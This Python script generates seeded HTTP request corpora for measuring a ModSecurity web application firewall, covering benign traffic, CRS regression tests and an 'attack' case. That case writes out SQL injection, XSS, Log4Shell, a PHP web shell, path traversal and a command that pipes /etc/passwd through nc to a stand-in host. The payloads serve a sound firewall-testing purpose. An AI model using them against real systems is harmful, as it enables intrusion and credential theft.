#!/usr/bin/env python3
"""Requests for the firewall's measurements, as JSON lines: the mix of six cases, the benign corpora, the regression tests
of the Core Rule Set. Every value that is made up comes from a seed.

A line is {"id", "client", "method", "uri", "version", "headers": [[name, value]…], "body_base64"}, and may have
"response": {"status", "headers", "body_base64"}, "case" (where it comes from) and "expect" (what a test wants:
{"log": expression, "no_log": expression, "status": […], "error": true}). Text is UTF-8.

    corpora.py mix --each 100 --seed 1 --out mix.jsonl
    corpora.py benign --data FOLDER [--only har,access-log]
    corpora.py regression --data FOLDER [--debian]        (the tests that go with Debian's patched rules)
"""
import argparse
import base64
import csv
import glob
import json
import os
import random
import re
import struct
import sys
import urllib.parse

BROWSER = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"
FORM = "application/x-www-form-urlencoded"


def test_data():
    """The test data's folder: $KABUTO_TESTDATA, or `shared` beside the project."""
    root = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
    return os.path.join(os.environ.get("KABUTO_TESTDATA") or os.path.join(root, "..", "shared"), "firewall")


# A request, and its other forms

def request(identity, method="GET", uri="/", headers=(), body=b"", version="HTTP/1.1", client="203.0.113.7", **more):
    if isinstance(body, str):
        body = body.encode()
    return {"id": identity, "client": client, "method": method, "uri": uri, "version": version,
            "headers": [list(pair) for pair in headers], "body_base64": base64.b64encode(body).decode(), **more}


def body(made):
    return base64.b64decode(made.get("body_base64") or "")


def frame(made):
    """For modsecurity.cpp: what it reads, spares it a JSON reader."""
    def text(value):
        data = value.encode("utf-8", "surrogateescape") if isinstance(value, str) else value
        return struct.pack("<I", len(data)) + data

    def pairs(headers):
        return struct.pack("<I", len(headers)) + b"".join(text(name) + text(value) for name, value in headers)

    out = b"".join(text(made[key]) for key in ("id", "client", "method", "uri", "version"))
    out += pairs(made["headers"]) + text(body(made))
    answer = made.get("response")
    if answer:
        out += b"\x01" + struct.pack("<I", answer["status"]) + pairs(answer.get("headers", [])) + text(body(answer))
    else:
        out += b"\x00"
    return struct.pack("<I", len(out)) + out


def raw(made):
    """As it goes over a connection."""
    head = f"{made['method']} {made['uri']} {made['version']}\r\n"
    head += "".join(f"{name}: {value}\r\n" for name, value in made["headers"]) + "\r\n"
    return head.encode("utf-8", "surrogateescape") + body(made)


def browser(*more, host="www.example.com"):
    return [["Host", host], ["User-Agent", BROWSER], ["Accept", "text/html,application/xhtml+xml,*/*;q=0.8"],
            ["Accept-Language", "ja,en;q=0.7"], ["Accept-Encoding", "gzip, deflate"], *more]


def post(identity, uri, kind, content, headers=None, **more):
    data = content.encode() if isinstance(content, str) else content
    return request(identity, "POST", uri, (headers or browser()) + [["Content-Type", kind], ["Content-Length", str(len(data))]],
                   data, **more)


def multipart(fields, boundary):
    """`fields`: (name, value) or (name, file's name, type, bytes)."""
    out = b""
    for field in fields:
        out += f"--{boundary}\r\nContent-Disposition: form-data; name=\"{field[0]}\"".encode()
        if len(field) == 4:
            out += f"; filename=\"{field[1]}\"\r\nContent-Type: {field[2]}".encode()
        content = field[-1]
        out += b"\r\n\r\n" + (content.encode() if isinstance(content, str) else content) + b"\r\n"
    return out + f"--{boundary}--\r\n".encode()


# The mix

CASES = ("get", "quotes", "form", "json", "upload", "attack")
# Of 100 requests of the mix.
SHARES = {"get": 50, "quotes": 30, "form": 10, "json": 5, "upload": 1, "attack": 4}
WORDS = ("market price order book trade dividend annual report share holder closing opening quarter result notice transfer account "
         "balance settlement currency forecast growth region harbour mountain river garden bridge station window paper morning "
         "evening summer winter letter number street avenue tower office partner member service portal guide lesson detail").split()
NAMES = "Sato Suzuki Takahashi Tanaka Watanabe Ito Yamamoto Nakamura Kobayashi Kato Yoshida Yamada Sasaki Mori Abe Ishikawa".split()
COOKIES = ("session", "csrf", "theme", "lang", "tz", "watchlist", "columns", "last_seen", "consent", "_ga", "_gid", "_fbp", "ab_group", "region",
           "currency", "chart_range", "chart_kind", "alerts", "tutorial", "remember", "device", "visit")


def words(dice, count):
    return " ".join(dice.choice(WORDS) for _ in range(count))


def token(dice, length, letters="0123456789abcdef"):
    return "".join(dice.choice(letters) for _ in range(length))


def cookies(dice):
    code = lambda: str(dice.randint(1300, 9999))
    values = {
        "session": token(dice, 43, "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"), "csrf": token(dice, 32),
        "theme": dice.choice(("light", "dark")), "lang": dice.choice(("ja", "en")), "tz": "Asia/Tokyo",
        "watchlist": ".".join(code() for _ in range(12)), "columns": "name.price.change.volume.time", "last_seen": str(dice.randint(10**12, 2 * 10**12)),
        "consent": token(dice, 64, "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz"), "_ga": f"GA1.2.{dice.randint(10**8, 10**9)}.{dice.randint(10**9, 2 * 10**9)}",
        "_gid": f"GA1.2.{dice.randint(10**8, 10**9)}.{dice.randint(10**9, 2 * 10**9)}", "_fbp": f"fb.1.{dice.randint(10**12, 2 * 10**12)}.{dice.randint(10**8, 10**9)}",
        "ab_group": token(dice, 8), "region": dice.choice(("kanto", "kansai", "tohoku", "kyushu")), "currency": "JPY", "chart_range": dice.choice(("1d", "5d", "1m", "1y")),
        "chart_kind": dice.choice(("line", "candle")), "alerts": str(dice.randint(0, 99)), "tutorial": f"step{dice.randint(1, 9)}", "remember": token(dice, 40),
        "device": token(dice, 16), "visit": str(dice.randint(1, 5000)),
    }
    return "; ".join(f"{name}={values[name]}" for name in COOKIES)


def attack(dice):
    n, text = dice.randint(1000, 99999), dice.choice(WORDS)
    return dice.choice((
        f"{n}' OR '{n}'='{n}", f"{n} UNION ALL SELECT {n},name,password FROM users WHERE id={n}-- -", f"<script>alert('{text}{n}')</script>",
        f"../../../../../../etc/passwd?{text}{n}", f"; cat /etc/passwd | nc 198.51.100.{n % 255} {n % 60000 + 1024}", f"\"><img src=x{n} onerror=alert({n})>",
        f"${{jndi:ldap://{text}{n}.example.org/a}}", f"<?php system($_GET['{text}{n}']); ?>", f"{n}; DROP TABLE {text}; --", f"php://filter/resource={text}{n}.php",
    ))


def mixed(case, dice, identity):
    client = f"203.0.113.{dice.randint(1, 254)}"
    common = {"client": client, "case": case}
    if case == "get":
        return request(identity, uri=f"/news/{dice.randint(2001, 2026)}/{dice.choice(WORDS)}-{dice.randint(10000, 99999)}.html?page={dice.randint(1, 99)}",
                       headers=browser(), **common)
    if case == "quotes":
        uri = f"/quotes/{dice.randint(1300, 9999)}?range={dice.choice(('1d', '5d', '1m'))}&columns=price.change.volume&at={dice.randint(10**9, 2 * 10**9)}"
        headers = browser(["Referer", f"https://www.example.com/search?q={dice.choice(WORDS)}{dice.randint(10, 99)}"], ["Cookie", cookies(dice)])
        return request(identity, uri=uri, headers=headers, **common)
    if case == "form":
        fields = [("name", f"{dice.choice(NAMES)} {token(dice, 6)}"), ("mail", f"{token(dice, 10)}@example.com"), ("phone", f"03-{dice.randint(1000, 9999)}-{dice.randint(1000, 9999)}"),
                  ("postcode", f"{dice.randint(100, 999)}-{dice.randint(1000, 9999)}"), ("branch", str(dice.randint(100, 999))), ("account", str(dice.randint(10**6, 10**7))),
                  ("token", token(dice, 40)), ("amount", str(dice.randint(1, 10**6))), ("kind", dice.choice(("buy", "sell"))), ("date", f"2026-{dice.randint(1, 12):02}-{dice.randint(1, 28):02}")]
        while len(urllib.parse.urlencode(fields)) < 3700:
            fields.append((f"note{len(fields)}", words(dice, 40)))
        rest = 4096 - len(urllib.parse.urlencode(fields)) - len("&last=")
        fields.append(("last", token(dice, max(1, rest))[:max(1, rest)]))
        return post(identity, "/account/order", FORM, urllib.parse.urlencode(fields), browser(["Cookie", f"session={token(dice, 43)}"]), **common)
    if case == "json":
        orders = []
        document = lambda: json.dumps({"request": token(dice, 16), "orders": orders})
        size = 60
        while size < 32768 - 280:
            orders.append({"code": str(dice.randint(1300, 9999)), "side": dice.choice(("buy", "sell")), "price": dice.randint(100, 99999) / 10, "quantity": dice.randint(1, 99) * 100,
                           "account": token(dice, 12), "memo": words(dice, 20)})
            size += len(json.dumps(orders[-1])) + 2
        content = document()
        return post(identity, "/v1/orders", "application/json", content + " " * max(0, 32768 - len(content)), **common)
    if case == "upload":
        boundary = "----boundary" + token(dice, 24)
        # A line of the file that begins like a boundary would have ModSecurity 2 refuse the body, by chance.
        content = dice.randbytes(2_000_000).replace(b"\n--", b"\n..")
        data = multipart([("title", words(dice, 4)), ("reference", token(dice, 12)), ("document", f"report{dice.randint(1, 9999)}.pdf", "application/pdf", content)], boundary)
        return post(identity, "/documents", f"multipart/form-data; boundary={boundary}", data, **common)
    if case == "attack":
        return request(identity, uri=f"/search?q={urllib.parse.quote(attack(dice))}&page={dice.randint(1, 999)}", headers=browser(), **common)
    raise ValueError(case)


def mix(each=100, seed=1, cases=CASES, uploads=10):
    """`each` of every case (fewer of the uploads, which are large)."""
    for case in cases:
        dice = random.Random(f"{seed} {case}")
        for number in range(min(each, uploads) if case == "upload" else each):
            yield mixed(case, dice, f"{case}-{number + 1}")


# The benign corpora

def placed(identity, value, case, name="q"):
    """A value as a query parameter and as a form field."""
    yield request(identity + "-query", uri=f"/anything?{name}={urllib.parse.quote(value, safe='')}", headers=browser(), case=case)
    yield post(identity + "-form", "/anything", FORM, urllib.parse.urlencode({name: value}), case=case)


def gotestwaf(folder):
    import yaml
    for path in sorted(glob.glob(os.path.join(folder, "*.yml"))):
        with open(path) as text:
            payloads = yaml.load(text, yaml.BaseLoader)["payload"]
        for number, value in enumerate(payloads):
            yield from placed(f"gotestwaf-{number}", value, "gotestwaf")
            boundary = "----boundary7c1e0d5f"
            yield post(f"gotestwaf-{number}-multipart", "/anything", f"multipart/form-data; boundary={boundary}",
                       multipart([("q", value)], boundary), case="gotestwaf")


def waf_bypass(folder):
    for path in sorted(glob.glob(os.path.join(folder, "*.json"))):
        name = os.path.splitext(os.path.basename(path))[0]
        with open(path) as text:
            payloads = json.load(text)["payload"]
        for number, payload in enumerate(payloads):
            for place, value in payload.items():
                if place in ("ENCODE", "BLOCKED", "METHOD", "JSON"):
                    continue
                if not isinstance(value, str):
                    raise SystemExit(f"{path}: {place}: found {value!r}, wanted a text")
                identity, case = f"waf-bypass-{name}-{number}-{place.lower()}", "waf-bypass-fp"
                if place == "URL":
                    yield request(identity, uri=urllib.parse.quote(value, safe="/?&=%:;,@!$'()*+~"), headers=browser(), case=case)
                elif place == "ARGS":
                    yield request(identity, uri="/?q=" + urllib.parse.quote(value, safe=""), headers=browser(), case=case)
                elif place == "BODY":
                    yield post(identity, "/", FORM, urllib.parse.urlencode({"q": value}), case=case)
                elif place == "COOKIE":
                    yield request(identity, headers=browser(["Cookie", f"session={value}"]), case=case)
                elif place == "HEADER":
                    yield request(identity, headers=browser(["X-Request-Value", value]), case=case)
                elif place == "USER-AGENT":
                    yield request(identity, headers=[["Host", "www.example.com"], ["User-Agent", value], ["Accept", "*/*"]], case=case)
                elif place == "REFERER":
                    yield request(identity, headers=browser(["Referer", value]), case=case)
                else:
                    raise SystemExit(f"{path}: found the place {place!r}, which is not known")


def wafefficacy(folder):
    for path in sorted(glob.glob(os.path.join(folder, "*.txt"))):
        kind = os.path.splitext(os.path.basename(path))[0]
        with open(path) as text:
            for number, line in enumerate(text):
                yield from placed(f"wafefficacy-{kind}-{number + 1}", line.rstrip("\n"), "wafefficacy", "p")


def http_params(folder):
    with open(os.path.join(folder, "values-train.csv"), newline="") as text:
        for number, row in enumerate(csv.DictReader(text)):
            yield from placed(f"http-params-{number + 1}", row["payload"], "http-params", "value")


COMBINED = re.compile(r'(\S+) \S+ \S+ \[[^]]*\] "(\S+) (.*?)(?: (HTTP/[\d.]+))?" \d+ \S+ "((?:[^"\\]|\\.)*)" "((?:[^"\\]|\\.)*)"')


def access_log(folder):
    with open(os.path.join(folder, "apache-combined-1.log"), encoding="utf-8", errors="surrogateescape") as text:
        for number, line in enumerate(text):
            found = COMBINED.match(line)
            if not found:
                raise SystemExit(f"access log, line {number + 1}: not in Apache's combined format")
            client, method, uri, version, referer, agent = found.groups()
            headers = [["Host", "www.semicomplete.com"], ["Accept", "*/*"]]
            for name, value in (("User-Agent", agent), ("Referer", referer)):
                if value != "-":
                    headers.append([name, value.replace('\\"', '"')])
            if method == "POST":
                headers.append(["Content-Length", "0"])
            yield request(f"access-log-{number + 1}", method, uri, headers, version=version or "HTTP/1.0", client=client, case="access-log")


def har(folder):
    for path in sorted(glob.glob(os.path.join(folder, "*.json"))):
        name = os.path.splitext(os.path.basename(path))[0]
        with open(path) as text:
            for number, entry in enumerate(json.load(text)):
                parts = urllib.parse.urlsplit(entry["url"])
                uri = (parts.path or "/") + ("?" + parts.query if parts.query else "")
                yield request(f"har-{name}-{number + 1}", entry["method"], uri, [[h["name"], h["value"]] for h in entry["headers"]],
                              version=entry["httpVersion"], case="har")


def product(_folder):
    """Of Kabuto's own pages and API, and what the other corpora lack: Japanese text, JSON, GraphQL, streams."""
    dice = random.Random("product")
    japanese = ("トヨタ自動車", "日本電信電話", "三菱UFJ", "任天堂", "ソニーグループ", "配当利回り 高い順", "決算短信(連結)", "株価は前日比+3%で推移", "「貸借」銘柄・一覧", "ご意見をお聞かせください。よろしくお願いします!")
    code = lambda: str(dice.randint(1300, 9999))
    for number in range(60):
        q = urllib.parse.quote(dice.choice(japanese))
        plain = (f"/v1/quotes?instruments={','.join(code() for _ in range(20))}", f"/v1/instruments?q={q}&limit=20", f"/v1/quotes/{code()}", f"/v1/books/{code()}?levels=10",
                 f"/v1/trades/{code()}?limit=50", f"/v1/bars/{code()}?interval=1m&from=2026-11-25T09:00:00%2B09:00&to=2026-11-25T15:30:00%2B09:00",
                 f"/v1/events?channel=quotes&instruments={code()},{code()}", "/", "/openapi.json", "/metrics", "/health/ready")
        yield request(f"product-get-{number}", uri=plain[number % len(plain)], headers=browser(["Cookie", cookies(dice)]), case="product")
        yield request(f"product-stream-{number}", uri="/v1/stream", case="product", headers=[
            ["Host", "www.example.com"], ["User-Agent", BROWSER], ["Accept", "*/*"], ["Connection", "keep-alive, Upgrade"], ["Upgrade", "websocket"], ["Sec-WebSocket-Version", "13"],
            ["Sec-WebSocket-Key", base64.b64encode(dice.randbytes(16)).decode()], ["Origin", "https://www.example.com"]])
        yield from placed(f"product-text-{number}", dice.choice(japanese) + words(dice, 3), "product")
        document = {"name": dice.choice(japanese), "instruments": [code() for _ in range(8)], "alert": {"above": dice.randint(100, 9999) / 10, "mail": f"{token(dice, 8)}@example.co.jp"}, "note": dice.choice(japanese)}
        yield post(f"product-json-{number}", "/v1/watchlists", "application/json", json.dumps(document, ensure_ascii=False), case="product")
        graph = {"query": "query Quotes($codes: [ID!]!) { quotes(instruments: $codes) { code price change { amount percent } } }", "variables": {"codes": [code(), code()]}}
        yield post(f"product-graphql-{number}", "/graphql", "application/json", json.dumps(graph), case="product")
        boundary = "----WebKitFormBoundary" + token(dice, 16)
        parts = [("title", dice.choice(japanese)), ("file", f"資料{number}.csv", "text/csv", f"コード,株数\n{code()},100\n")]
        yield post(f"product-multipart-{number}", "/documents", f"multipart/form-data; boundary={boundary}", multipart(parts, boundary), case="product")


BENIGN = {"gotestwaf": gotestwaf, "waf-bypass-fp": waf_bypass, "wafefficacy": wafefficacy, "http-params": http_params, "access-log": access_log, "har": har,
          "product": product}


def benign(data, only=None):
    for name, made in BENIGN.items():
        if only is None or name in only:
            yield from made(os.path.join(data, "benign", name))


# The regression tests

def parsed(data):
    """A raw request's parts, however odd they are."""
    line_end = b"\r\n" if b"\r\n" in data else b"\n"
    head, _, content = data.partition(line_end * 2)
    first, *lines = head.split(line_end)
    pieces = first.decode("utf-8", "surrogateescape").split(" ", 2) + ["", ""]
    headers = []
    for line in lines:
        name, _, value = line.decode("utf-8", "surrogateescape").partition(":")
        headers.append([name, value.strip()])
    return {"method": pieces[0], "uri": pieces[1], "version": pieces[2], "headers": headers, "body": content}


def completed(stage):
    """What the tests' runner adds to an input (SOURCES.md, "Format of a test file")."""
    for key in ("encoded_request", "raw_request"):
        if stage.get(key):
            return parsed(base64.b64decode(stage[key]) if key == "encoded_request" else stage[key].encode())
    headers = [[name, value] for name, value in (stage.get("headers") or {}).items()]
    data = stage.get("data") or ""
    if isinstance(data, list):
        data = "\r\n".join(data)
    names = {name.lower(): value for name, value in headers}
    if stage.get("stop_magic", "").lower() != "true" and data:
        if "content-type" not in names:
            headers.append(["Content-Type", FORM])
            names["content-type"] = FORM
        if names["content-type"] == FORM and urllib.parse.unquote(data) == data:
            pairs = urllib.parse.parse_qsl(data)
            if pairs:
                data = urllib.parse.urlencode(pairs)
        if "content-length" not in names:
            headers.append(["Content-Length", str(len(data.encode()))])
    return {"method": stage.get("method", "GET"), "uri": stage.get("uri", "/"), "version": stage.get("version", "HTTP/1.1"), "headers": headers,
            "body": data.encode("utf-8", "surrogateescape")}


def regression(data, debian=False, tests="crs-3.3-tests"):
    """The tests in the order of their files; disabled files are left out."""
    import yaml
    loader = getattr(yaml, "CBaseLoader", yaml.BaseLoader)
    patched = {}
    if debian:
        patched = {os.path.basename(path): path for path in glob.glob(os.path.join(data, tests + "-debian", "**", "*.yaml"), recursive=True)}
    for path in sorted(glob.glob(os.path.join(data, tests, "**", "*.yaml"), recursive=True)):
        path = patched.get(os.path.basename(path), path)
        with open(path, encoding="utf-8") as text:
            document = yaml.load(text, loader)
        if document["meta"].get("enabled", "true").lower() == "false":
            continue
        for test in document["tests"]:
            stage = test["stages"][0]["stage"]
            output, parts = stage["output"], completed(stage["input"])
            expect = {}
            for key, name in (("log_contains", "log"), ("no_log_contains", "no_log")):
                if output.get(key):
                    expect[name] = output[key]
            if output.get("status"):
                found = output["status"]
                expect["status"] = [int(x) for x in (found if isinstance(found, list) else [found])]
            if output.get("expect_error", "").lower() == "true":
                expect["error"] = True
            yield request(test["test_title"], parts["method"], parts["uri"], parts["headers"], parts["body"], parts["version"], "127.0.0.1", case="regression", expect=expect)


def passes(expect, title, ids, status=200):
    """Whether rules that matched and logged are what a test wants. A status that a web server would have given counts as
    reached where the rule that the test is about matched."""
    text = " ".join(f'[id "{rule}"]' for rule in ids)
    if "log" in expect and not re.search(expect["log"], text):
        return False
    if "no_log" in expect and re.search(expect["no_log"], text):
        return False
    if "status" in expect and status not in expect["status"]:
        return title.split("-")[0] in map(str, ids)
    return True


def write(requests, path):
    out = open(path, "w", encoding="utf-8") if path else sys.stdout
    for one in requests:
        out.write(json.dumps(one) + "\n")
    if path:
        out.close()


def read(path):
    with open(path, encoding="utf-8") as lines:
        for line in lines:
            if line.strip():
                yield json.loads(line)


def main():
    p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    p.add_argument("what", choices=("mix", "benign", "regression"))
    p.add_argument("--out", help="a file instead of standard output")
    p.add_argument("--data", default=test_data())
    p.add_argument("--each", type=int, default=100)
    p.add_argument("--seed", type=int, default=1)
    p.add_argument("--only", help="some of the benign corpora or cases, with commas between")
    p.add_argument("--debian", action="store_true")
    a = p.parse_args()
    only = a.only.split(",") if a.only else None
    made = {"mix": lambda: mix(a.each, a.seed, only or CASES), "benign": lambda: benign(a.data, only), "regression": lambda: regression(a.data, a.debian)}[a.what]()
    write(made, a.out)


if __name__ == "__main__":
    main()
